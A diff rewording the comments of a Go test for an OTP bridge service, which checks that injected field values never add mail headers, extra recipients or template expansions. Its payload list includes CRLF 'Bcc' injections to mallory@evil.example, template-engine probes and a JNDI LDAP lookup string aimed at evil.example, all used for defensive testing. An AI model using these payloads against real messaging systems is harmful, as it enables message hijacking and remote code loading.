@@ -24,14 +24,14 @@ import (
 	"otpbridge/sql/sqltest"
 )
 
-// rawGateway is an SMS gateway that keeps the bytes of each request: a parser would tidy them.
+// rawGateway is an SMS gateway that keeps the bytes of each request, because a parser could hide differences.
 type rawGateway struct {
 	url      string
 	mu       sync.Mutex
 	requests []rawRequest
 }
 
-// rawRequest is one request, and what its connection carried behind its end.
+// rawRequest is one request, and the bytes after its end on the connection.
 type rawRequest struct{ head, body, more string }
 
 func startRawGateway(t *testing.T) *rawGateway {
@@ -56,7 +56,7 @@ func startRawGateway(t *testing.T) *rawGateway {
 	return g
 }
 
-// answer takes one request by its Content-Length, answers it, and keeps it.
+// answer reads one request by its Content-Length, answers it, and keeps it.
 func (g *rawGateway) answer(conn net.Conn) {
 	defer conn.Close()
 	var r rawRequest
@@ -87,7 +87,7 @@ func (g *rawGateway) all() []rawRequest {
 	return slices.Clone(g.requests)
 }
 
-// mailDrop is a mail server that keeps every envelope it is given, and each mail as it came.
+// mailDrop is a mail server that keeps every envelope and every mail unchanged.
 type mailDrop struct {
 	address string
 	mu      sync.Mutex
@@ -159,8 +159,8 @@ func (s *dropSession) Data(r io.Reader) error {
 func (s *dropSession) Reset()        {}
 func (s *dropSession) Logout() error { return nil }
 
-// payloads are what would add a header, a second recipient or a second message, or be run by an
-// engine of templates. Mallory is who would get it.
+// payloads are texts that could add a header, a second recipient or a second message, or be run by a template engine.
+// Mallory would get the message.
 var payloads = []string{
 	"\r\nBcc: mallory@evil.example",
 	"\nBcc: mallory@evil.example",
@@ -179,18 +179,17 @@ var payloads = []string{
 	"{code}", "{to}", "{{.}}", "{{.Code}}", "${x}", "${jndi:ldap://evil.example}", "#{7*7}",
 }
 
-// attack is one try: a field, what is written into it, and whom its messages may reach.
+// attack is one try: a field, its value, and the recipients that its messages may reach.
 type attack struct {
 	field, value string
 	number       string
 	mailbox      string
-	// wording: the field is a text in which the account may have the code wherever it likes.
+	// wording is set if the field is a text in which the account may put the code anywhere.
 	wording bool
 }
 
-// Callers and accounts control many texts that go into a message or onto the wire. Whatever stands
-// in one, a message goes to the one recipient that was asked for, once, and says nothing above its
-// text that was not to be said.
+// Callers and accounts control many texts in messages and requests. Whatever such a text contains, a message goes
+// once, to the requested recipient only, and has no headers that it should not have.
 func TestInjection_NoFieldReachesAHeaderOrASecondRecipient(t *testing.T) {
 	gateway, drop := startRawGateway(t), startMailDrop(t)
 	profile := filepath.Join(t.TempDir(), "profile.json")
@@ -214,19 +213,19 @@ func TestInjection_NoFieldReachesAHeaderOrASecondRecipient(t *testing.T) {
 	expect := func(a attack) {
 		attacks["+"+a.number], attacks[strings.ToLower(a.mailbox)] = a, a // mail goes to the lower-case form
 	}
-	// The account says in its texts everything that a text can say of others' making.
+	// The account's texts use every value that others control.
 	const wording = `"name":"Shop","email_enabled":true,"plain_validation_enabled":true,"requests_per_minute":1000000,"departments":["sales"],
 		"sms_template":"{code} for {account} {department} {type}","email_template":"Subject: For {account} {department} {type}\n\n{code} for {account}"`
 	account := s.account("{" + wording + "}")
 
-	// variants puts a payload alone, behind and before what is right.
+	// variants returns a payload alone, after and before a right value.
 	variants := func(payload, right string) []string { return []string{payload, right + payload, payload + right} }
 	servlet := func(a attack, key, department string, values url.Values) {
 		headers := []string{"access_key", key}
 		if department != "" {
 			headers = append(headers, "department-id", department)
 		}
-		// What Go's client does not put into a header cannot be a header's value for anybody.
+		// Go's client refuses values that cannot be a header's value.
 		_, _ = s.try("GET", "/otpauthapi/otpgenservlet?"+values.Encode(), "", headers...)
 		expect(a)
 	}
@@ -285,7 +284,7 @@ func TestInjection_NoFieldReachesAHeaderOrASecondRecipient(t *testing.T) {
 			v1(a, account.APIKey, of(a), header, payload)
 		}
 
-		// Accounts, as operators write them with SQL: nothing has looked at the columns before.
+		// Operators may write accounts with SQL, so that nothing has checked the columns.
 		quoted := func(value any) string {
 			text, err := json.Marshal(value)
 			require.NoError(t, err)
@@ -339,7 +338,7 @@ func TestInjection_NoFieldReachesAHeaderOrASecondRecipient(t *testing.T) {
 		form, err := url.ParseQuery(r.body)
 		require.NoError(t, err)
 		fields := slices.Sorted(maps.Keys(form))
-		// What came out empty is left out, in the header and in the form alike.
+		// An empty value is left out, in the header and in the form.
 		require.Equal(t, slices.Contains(names, "X-Entity"), slices.Contains(fields, "entity"), "%q", head)
 		require.Equal(t, []string{"Accept-Encoding", "Content-Length", "Content-Type", "Host", "User-Agent", "X-Sender"},
 			without(names, "X-Entity", "X-Template"), "%q", head)
@@ -390,8 +389,8 @@ func TestInjection_NoFieldReachesAHeaderOrASecondRecipient(t *testing.T) {
 	require.Greater(t, reached["mail"], number/10, "hardly anything was sent, so hardly anything was seen")
 }
 
-// requireOneCode checks that a text has its code once: a token in what somebody else wrote stays
-// what it is.
+// requireOneCode checks that a text has its code once: a placeholder in a value that somebody else wrote is not
+// replaced.
 func requireOneCode(t *testing.T, a attack, text string) {
 	t.Helper()
 	code, _, _ := strings.Cut(text, " ")
@@ -399,7 +398,7 @@ func requireOneCode(t *testing.T, a attack, text string) {
 	require.Equal(t, 1, strings.Count(text, code), "%s %q gave %q", a.field, a.value, text)
 }
 
-// without is a list less the members that may be in it once.
+// without returns a list without the members that may be in it once.
 func without(list []string, optional ...string) []string {
 	rest := slices.Clone(list)
 	for _, name := range optional {
